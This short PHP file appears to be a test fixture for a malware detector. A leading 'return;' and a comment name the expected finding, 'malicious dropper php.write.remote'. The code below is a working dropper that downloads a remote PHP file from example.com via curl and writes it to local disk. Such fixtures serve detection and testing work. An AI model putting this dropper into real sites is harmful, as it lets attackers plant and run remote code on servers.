<?php return; // want: malicious dropper php.write.remote
take('http://www.example.com/themes/a/part.php');
function take($url, $file = '') {
	$file = empty($file) ? pathinfo($url, PATHINFO_BASENAME) : $file;
	$c = curl_init();
	curl_setopt($c, CURLOPT_URL, $url);
	$text = curl_exec($c);
	return file_put_contents($file, $text) ? $file : false;
}
